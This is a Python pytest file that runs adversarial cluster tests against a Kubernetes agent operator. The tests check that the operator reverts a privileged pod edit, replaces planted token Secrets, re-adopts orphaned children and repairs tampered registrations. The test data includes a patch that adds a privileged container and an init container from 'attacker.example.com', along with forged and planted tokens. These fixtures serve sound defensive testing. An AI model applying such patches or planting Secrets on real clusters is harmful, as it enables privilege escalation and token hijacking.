"""The operator attacked again (issue 43): registrations in an Agent namespace, a privileged hand edit, a
token Secret planted before its Agent, re-adoption after an orphaning delete, child names held by others, and
registrations edited or deleted by hand.

Each test runs the operator as a process with the chart's own identity (tests/cluster/operator_harness.py)
against the real control plane. Elapsed times are printed as `measured:` lines (never asserted).
"""

from __future__ import annotations

import base64
import json
import ssl
import threading
import time
from collections.abc import Callable, Iterator
from typing import Any

import httpx
import pytest
import yaml

from agent_operator.registration import registration_secret_name
from agent_runtime.oe.registration import REGISTRATION_KEY, REGISTRATION_LABEL
from tests.cluster.controlplane import ControlPlane
from tests.cluster.operator_harness import (
    Api,
    RunningOperator,
    apply_all,
    manifests,
    ready,
    wait_for,
)
from tests.cluster.test_operator_hardening import agent_manifest, kubectl, measured


def _namespace(api: Api, name: str) -> None:
    response = api.http.post("/api/v1/namespaces", json={"metadata": {"name": name}})
    assert response.is_success or response.status_code == 409, response.text


@pytest.fixture(autouse=True)
def registrations(api: Api) -> Iterator[str]:
    """The registrations' own namespace, as the chart renders it (`<release namespace>-registrations`; the
    chart's Role for publishing there needs it to exist)."""
    name = f"{api.namespace}-registrations"
    _namespace(api, name)
    yield name
    api.http.delete(f"/api/v1/namespaces/{name}")


def _secret(api: Api, namespace: str, name: str) -> dict[str, Any] | None:
    response = api.http.get(f"/api/v1/namespaces/{namespace}/secrets/{name}")
    if response.status_code == 404:
        return None
    response.raise_for_status()
    return response.json()


def _registrations(api: Api, namespace: str) -> list[dict[str, Any]]:
    response = api.http.get(
        f"/api/v1/namespaces/{namespace}/secrets", params={"labelSelector": f"{REGISTRATION_LABEL}=true"}
    )
    response.raise_for_status()
    return response.json()["items"]


def _registered_token(secret: dict[str, Any]) -> str:
    return json.loads(base64.b64decode(secret["data"][REGISTRATION_KEY]))["token"]


def _token(api: Api, agent: str = "bot") -> str | None:
    secret = api.get("secrets", f"{agent}-runtime-token")
    if secret is None or "token" not in (secret.get("data") or {}):
        return None
    return base64.b64decode(secret["data"]["token"]).decode()


def _owner_uids(body: dict[str, Any] | None) -> list[str]:
    return [o["uid"] for o in ((body or {}).get("metadata") or {}).get("ownerReferences") or []]


def _operator_account(api: Api) -> tuple[str, str]:
    """The chart's operator ServiceAccount (namespace, name), from the RoleBinding the chart rendered."""
    bindings = api.http.get(f"/apis/rbac.authorization.k8s.io/v1/namespaces/{api.namespace}/rolebindings")
    for binding in bindings.json()["items"]:
        for subject in binding.get("subjects") or []:
            if subject["kind"] == "ServiceAccount" and binding["metadata"]["name"].endswith("-operator"):
                return subject["namespace"], subject["name"]
    raise AssertionError("no operator RoleBinding rendered by the chart")


def _grant(api: Api, *, namespace: str, name: str, account: tuple[str, str], rules: list[dict]) -> None:
    base = f"/apis/rbac.authorization.k8s.io/v1/namespaces/{namespace}"
    role = {"metadata": {"name": name}, "rules": rules}
    assert api.http.post(f"{base}/roles", json=role).is_success
    binding = {
        "metadata": {"name": name},
        "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "Role", "name": name},
        "subjects": [{"kind": "ServiceAccount", "namespace": account[0], "name": account[1]}],
    }
    assert api.http.post(f"{base}/rolebindings", json=binding).is_success


# --- bug 1: registrations in a watched Agent namespace ------------------------------------------------------


class _DeletionCounter:
    """Counts DELETED events of registration Secrets in a namespace (a watch of the admin's own)."""

    def __init__(self, api: Api, namespace: str) -> None:
        self.deleted: list[str] = []
        self._stop = threading.Event()
        self._api, self._ns = api, namespace
        self._thread = threading.Thread(target=self._run, daemon=True)
        self._thread.start()

    def _run(self) -> None:
        path = f"/api/v1/namespaces/{self._ns}/secrets"
        params = {"labelSelector": f"{REGISTRATION_LABEL}=true", "watch": "1", "timeoutSeconds": "600"}
        try:
            with (
                httpx.Client(
                    base_url=str(self._api.http.base_url),
                    verify=self._tls(),
                    timeout=httpx.Timeout(30, read=None),
                ) as http,
                http.stream("GET", path, params=params) as response,
            ):
                for line in response.iter_lines():
                    if self._stop.is_set():
                        return
                    if line.strip():
                        event = json.loads(line)
                        if event.get("type") == "DELETED":
                            self.deleted.append(event["object"]["metadata"]["name"])
        except httpx.HTTPError:
            if not self._stop.is_set():
                self.deleted.append("<the watch ended early>")

    def _tls(self) -> ssl.SSLContext:
        tmp = self._api.cluster.work_dir / f"operator-test-{self._api.namespace}"
        context = ssl.create_default_context(cafile=str(tmp / "ca"))
        context.load_cert_chain(str(tmp / "cert"), str(tmp / "key"))
        return context

    def stop(self) -> None:
        self._stop.set()


def test_registrations_in_a_watched_agent_namespace_survive_three_resyncs_and_a_restart(
    api: Api, start_operator: Callable[..., RunningOperator], registrations: str
) -> None:
    ns = api.namespace
    agents = [f"a{i:02d}" for i in range(50)]
    env = {"AGENT_OPERATOR_OE_NAMESPACE": ns, "AGENT_OPERATOR_REGISTRATIONS_NAMESPACE": ns}
    resync = 4.0
    operator = start_operator(resync_seconds=resync, extra_env=env)
    # What the chart grants where registrations are published (its registrations' namespace), here granted
    # in the Agent namespace the registrations share.
    _grant(
        api,
        namespace=ns,
        name="publish-registrations",
        account=_operator_account(api),
        rules=[
            {
                "apiGroups": [""],
                "resources": ["secrets"],
                "verbs": ["get", "list", "watch", "patch", "delete"],
            }
        ],
    )
    objs = manifests(ns)
    for key in ("catalog", "creds", "llm", "connector"):
        api.must_apply(objs[key])
    for name in agents:
        api.must_apply(agent_manifest(ns, name, ["petstore"]))

    def all_registered() -> bool:
        names = {s["metadata"]["name"] for s in _registrations(api, ns)}
        return names == {registration_secret_name(ns, a) for a in agents}

    wait_for("50 registrations", all_registered, timeout=180)
    wait_for(
        "50 Agents Registered=True",
        lambda: all(api.condition(a, "Registered").get("status") == "True" for a in agents),
        timeout=120,
    )
    deletions = _DeletionCounter(api, ns)
    counts: list[int] = []
    registered_false: list[str] = []

    def watch_for(seconds: float, *, until: Callable[[], bool] = lambda: False) -> None:
        end = time.monotonic() + seconds
        while time.monotonic() < end and not until():
            counts.append(len(_registrations(api, ns)))
            body = api.http.get(api.path("agents")).json()["items"]
            for agent in body:
                cond = next(
                    (
                        c
                        for c in (agent.get("status") or {}).get("conditions") or []
                        if c["type"] == "Registered"
                    ),
                    {},
                )
                if cond.get("status") != "True":
                    registered_false.append(agent["metadata"]["name"])
            time.sleep(1)

    try:
        before = _resyncs(operator)
        watch_for(90, until=lambda: _resyncs(operator) >= before + 3)
        assert _resyncs(operator) >= before + 3, "three resyncs ran"
        operator.process.stop()
        restarted = start_operator(resync_seconds=resync, extra_env=env)
        began = time.monotonic()
        wait_for("the restarted operator converged", lambda: _converged(restarted, len(agents)), timeout=60)
        measured("restart with 50 Agents and their registrations in their namespace -> converged", began)
        print(f"measured: requests of the restarted operator: {httpx.get(restarted.liveness).json()}")
        watch_for(resync + 2)
    finally:
        deletions.stop()
    print(
        f"measured: registration counts each second: min {min(counts)} max {max(counts)} over {len(counts)}"
    )
    assert set(counts) == {len(agents)}, counts
    assert deletions.deleted == [], deletions.deleted
    assert registered_false == [], sorted(set(registered_false))
    for log in (operator, restarted):
        deletes = [
            r for r in log.log_lines() if r.get("message") == "api write" and r.get("verb") == "DELETE"
        ]
        assert not [r for r in deletes if "/secrets/" in r.get("path", "")], deletes
    # Truthful: each registration carries its Agent's current token.
    for agent in agents[:5]:
        secret = _secret(api, ns, registration_secret_name(ns, agent))
        assert secret is not None and _registered_token(secret) == _token(api, agent)


def _resyncs(operator: RunningOperator) -> int:
    """Resync rounds seen in the log (each reconciles a00 once)."""
    return sum(
        1 for r in operator.log_lines() if r.get("message") == "agent reconciled" and r.get("agent") == "a00"
    )


def _converged(operator: RunningOperator, agents: int) -> bool:
    try:
        probe = httpx.get(operator.liveness, timeout=2).json()
    except (httpx.HTTPError, ValueError):
        return False
    return probe.get("agents_reconciled") == agents


# --- bug 2: a privileged AER container ---------------------------------------------------------------------


def test_a_privileged_container_and_a_foreign_init_container_are_reverted(
    api: Api, cluster: ControlPlane, start_operator: Callable[..., RunningOperator]
) -> None:
    start_operator()
    apply_all(api, manifests(api.namespace))
    ready(api)
    rendered = (api.get("deployments", "bot-aer") or {})["spec"]["template"]["spec"]
    context = rendered["containers"][0]["securityContext"]
    assert context.get("allowPrivilegeEscalation") is False, context
    patch = [
        {
            "op": "replace",
            "path": "/spec/template/spec/containers/0/securityContext",
            "value": {"privileged": True},
        },
        {
            "op": "add",
            "path": "/spec/template/spec/initContainers",
            "value": [
                {"name": "evil", "image": "attacker.example.com/evil:1", "command": ["sh", "-c", "id"]}
            ],
        },
    ]
    began = time.monotonic()
    kubectl(cluster, api.namespace, "patch", "deployment/bot-aer", "--type=json", "-p", json.dumps(patch))

    def reverted() -> bool:
        spec = (api.get("deployments", "bot-aer") or {})["spec"]["template"]["spec"]
        return spec["containers"][0].get("securityContext") == context and not spec.get("initContainers")

    wait_for("the privileged pod spec reverted", reverted, timeout=60, interval=0.05)
    measured("privileged securityContext + init container -> pod spec reverted", began)
    wait_for(
        "a ChildRepaired Event",
        lambda: any(e["reason"] == "ChildRepaired" and "bot-aer" in e["message"] for e in api.events("bot")),
    )
    ready(api)  # the rollout back to the rendering
    time.sleep(2)
    assert reverted()


# --- bug 3: a runtime token Secret planted before its Agent ------------------------------------------------


def _attacker(api: Api, cluster: ControlPlane) -> httpx.Client:
    """A ServiceAccount that may only create Secrets in the namespace, as an HTTP client."""
    ns = api.namespace
    base = f"/apis/rbac.authorization.k8s.io/v1/namespaces/{ns}"
    role = {
        "metadata": {"name": "secret-creator"},
        "rules": [{"apiGroups": [""], "resources": ["secrets"], "verbs": ["create"]}],
    }
    assert api.http.post(f"{base}/roles", json=role).is_success
    binding = {
        "metadata": {"name": "secret-creator"},
        "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "Role", "name": "secret-creator"},
        "subjects": [{"kind": "ServiceAccount", "namespace": ns, "name": "intruder"}],
    }
    assert api.http.post(f"{base}/rolebindings", json=binding).is_success
    config = yaml.safe_load(cluster.service_account_kubeconfig(namespace=ns, name="intruder").read_text())
    ca = cluster.work_dir / f"intruder-{ns}.crt"
    ca.write_bytes(base64.b64decode(config["clusters"][0]["cluster"]["certificate-authority-data"]))
    return httpx.Client(
        base_url=cluster.server,
        verify=ssl.create_default_context(cafile=str(ca)),
        headers={"Authorization": f"Bearer {config['users'][0]['user']['token']}"},
        timeout=30,
    )


def test_a_token_secret_planted_before_its_agent_is_never_used(
    api: Api, cluster: ControlPlane, start_operator: Callable[..., RunningOperator], registrations: str
) -> None:
    ns = api.namespace
    intruder = _attacker(api, cluster)
    planted = {"bot": "planted-token-unlabelled-0123456789", "bot2": "planted-token-labelled-0123456789"}
    for agent, token in planted.items():
        labels = (
            {}
            if agent == "bot"
            else {  # dressed as the operator's own: labels prove nothing
                "app.kubernetes.io/managed-by": "agent-engine-operator",
                "agentengine.io/agent": agent,
                "agentengine.io/role": "runtime-token",
            }
        )
        created = intruder.post(
            f"/api/v1/namespaces/{ns}/secrets",
            json={
                "metadata": {"name": f"{agent}-runtime-token", "labels": labels},
                "stringData": {"token": token},
            },
        )
        assert created.status_code == 201, created.text
    assert intruder.get(f"/api/v1/namespaces/{ns}/secrets/bot-runtime-token").status_code == 403
    operator = start_operator(extra_env={"AGENT_OPERATOR_REGISTRATIONS_NAMESPACE": registrations})
    began = time.monotonic()
    apply_all(api, manifests(ns))
    api.must_apply(agent_manifest(ns, "bot2", ["petstore"]))
    for agent, token in planted.items():
        uid = wait_for(
            f"Agent {agent}", lambda agent=agent: (api.get("agents", agent) or {}).get("metadata")
        )["uid"]
        wait_for(
            f"{agent}'s token Secret replaced and owned by its Agent",
            lambda agent=agent, token=token, uid=uid: (
                _token(api, agent) not in (None, token)
                and _owner_uids(api.get("secrets", f"{agent}-runtime-token")) == [uid]
            ),
        )
        measured(
            f"planted token Secret ({'unlabelled' if agent == 'bot' else 'labelled'}) -> fresh token", began
        )
        ready(api, agent)
        registration = wait_for(
            f"{agent}'s registration",
            lambda agent=agent: _secret(api, registrations, registration_secret_name(ns, agent)),
        )
        assert _registered_token(registration) == _token(api, agent) != token
    events = {e["reason"]: e for e in api.events("bot")}
    assert "TokenSecretReplaced" in events and "bot-runtime-token" in events["TokenSecretReplaced"]["message"]
    assert events["TokenSecretReplaced"]["type"] == "Warning"
    assert any("bot2-runtime-token" in e["message"] for e in api.events("bot2"))
    output = operator.process.output()
    assert not any(token in output for token in planted.values())
    intruder.close()
    # Gone with its Agent, now that the Agent owns it.
    api.delete("agents", "bot")
    wait_for(
        "the token Secret gone with its Agent",
        lambda: api.get("secrets", "bot-runtime-token") is None,
        timeout=60,
    )


# --- bug 4: re-adoption after kubectl delete --cascade=orphan ----------------------------------------------


def test_re_adoption_after_an_orphaning_delete_adopts_the_token_secret(
    api: Api, cluster: ControlPlane, start_operator: Callable[..., RunningOperator]
) -> None:
    start_operator()
    objs = manifests(api.namespace)
    apply_all(api, objs)
    first = ready(api)["metadata"]["uid"]
    assert _owner_uids(api.get("secrets", "bot-runtime-token")) == [first]
    kubectl(cluster, api.namespace, "delete", "agent", "bot", "--cascade=orphan")
    wait_for("the Agent gone", lambda: api.get("agents", "bot") is None)
    wait_for(
        "the children orphaned",
        lambda: (
            not _owner_uids(api.get("secrets", "bot-runtime-token"))
            and not _owner_uids(api.get("deployments", "bot-aer"))
        ),
        timeout=60,
    )
    began = time.monotonic()
    api.must_apply(objs["agent"])
    second = ready(api)["metadata"]["uid"]
    wait_for(
        "the token Secret adopted",
        lambda: _owner_uids(api.get("secrets", "bot-runtime-token")) == [second],
        timeout=30,
    )
    measured("re-created after --cascade=orphan -> token Secret adopted", began)
    for kind, name in (("deployments", "bot-aer"), ("deployments", "bot-tool"), ("services", "bot-aer")):
        assert _owner_uids(api.get(kind, name)) == [second], (kind, name)
    assert any(e["reason"] == "TokenSecretAdopted" for e in api.events("bot"))
    api.delete("agents", "bot")
    wait_for(
        "the token Secret gone with the Agent",
        lambda: api.get("secrets", "bot-runtime-token") is None and api.get("deployments", "bot-aer") is None,
        timeout=60,
    )


# --- 5. a child's name held by another owner's object ------------------------------------------------------


def test_a_child_name_held_by_another_owner_is_one_condition_and_nothing_is_applied(
    api: Api, start_operator: Callable[..., RunningOperator]
) -> None:
    ns = api.namespace
    owner = api.must_apply(
        {"apiVersion": "v1", "kind": "ConfigMap", "metadata": {"name": "team-web", "namespace": ns}}
    )
    theirs = {
        "apiVersion": "apps/v1",
        "kind": "Deployment",
        "metadata": {
            "name": "bot-aer",
            "namespace": ns,
            "ownerReferences": [
                {
                    "apiVersion": "v1",
                    "kind": "ConfigMap",
                    "name": "team-web",
                    "uid": owner["metadata"]["uid"],
                    "controller": True,
                }
            ],
        },
        "spec": {
            "selector": {"matchLabels": {"app": "web"}},
            "template": {
                "metadata": {"labels": {"app": "web"}},
                "spec": {"containers": [{"name": "web", "image": "registry.example.com/web:1"}]},
            },
        },
    }
    deployment = api.must_apply(theirs)
    service = api.must_apply(
        {
            "apiVersion": "v1",
            "kind": "Service",
            "metadata": {"name": "bot-tool", "namespace": ns},
            "spec": {"selector": {"app": "web"}, "ports": [{"port": 80}]},
        }
    )
    start_operator()
    began = time.monotonic()
    apply_all(api, manifests(ns))
    cond = wait_for("NameTaken", lambda: (c := api.condition("bot")).get("reason") == "NameTaken" and c)
    measured("a child name held by another owner -> NameTaken", began)
    assert "Deployment bot-aer (owned by ConfigMap team-web)" in cond["message"], cond
    assert "Service bot-tool" in cond["message"] and "nothing of this Agent was applied" in cond["message"]
    wait_for("a Warning Event", lambda: any(e["reason"] == "NameTaken" for e in api.events("bot")))
    time.sleep(3)  # retried meanwhile: still nothing written (status updates by controllers aside)
    for kind, name, before in (("deployments", "bot-aer", deployment), ("services", "bot-tool", service)):
        live = api.get(kind, name) or {}
        managers = {m.get("manager") for m in live["metadata"].get("managedFields") or []}
        assert "agent-engine-operator" not in managers, (kind, managers)
        assert live["spec"] == before["spec"] and live["metadata"].get("labels") == before["metadata"].get(
            "labels"
        ), kind
    for kind in ("deployments", "services", "secrets", "configmaps", "networkpolicies", "serviceaccounts"):
        assert api.list(kind, "app.kubernetes.io/managed-by=agent-engine-operator") == [], kind
    assert api.get("secrets", "bot-runtime-token") is None
    # The names come free: the Agent is applied (the reconcile is retried with backoff).
    began = time.monotonic()
    api.delete("deployments", "bot-aer")
    api.delete("services", "bot-tool")
    ready(api)
    measured("names freed -> Ready", began)


# --- 6. a registration edited or deleted by hand ---------------------------------------------------------


def test_a_registration_edited_or_deleted_by_hand_is_repaired_at_once(
    api: Api, start_operator: Callable[..., RunningOperator], registrations: str
) -> None:
    start_operator(extra_env={"AGENT_OPERATOR_REGISTRATIONS_NAMESPACE": registrations})  # no resync
    apply_all(api, manifests(api.namespace))
    ready(api)
    wait_for("Registered", lambda: api.condition("bot", "Registered").get("status") == "True")
    name = registration_secret_name(api.namespace, "bot")
    path = f"/api/v1/namespaces/{registrations}/secrets/{name}"
    original = (_secret(api, registrations, name) or {})["data"]

    began = time.monotonic()
    api.http.delete(path)
    wait_for(
        "the registration put back", lambda: _secret(api, registrations, name) is not None, interval=0.02
    )
    measured("registration deleted -> published again", began)
    assert (_secret(api, registrations, name) or {})["data"] == original

    forged = base64.b64encode(
        json.dumps({"agent": f"{api.namespace}/bot", "token": "x" * 40}).encode()
    ).decode()
    began = time.monotonic()
    patched = api.http.patch(
        path,
        content=json.dumps({"data": {REGISTRATION_KEY: forged}}),
        headers={"Content-Type": "application/merge-patch+json"},
    )
    assert patched.is_success, patched.text
    wait_for(
        "the registration's content put back",
        lambda: (_secret(api, registrations, name) or {}).get("data") == original,
        interval=0.02,
    )
    measured("registration edited -> put back", began)

    began = time.monotonic()
    api.http.patch(
        path,
        content=json.dumps({"metadata": {"labels": {REGISTRATION_LABEL: None}}}),
        headers={"Content-Type": "application/merge-patch+json"},
    )
    wait_for(
        "the registration's label put back",
        lambda: (
            ((_secret(api, registrations, name) or {}).get("metadata", {}).get("labels") or {}).get(
                REGISTRATION_LABEL
            )
            == "true"
        ),
        interval=0.02,
    )
    measured("registration label removed -> put back", began)
    time.sleep(2)
    assert api.condition("bot", "Registered").get("status") == "True"
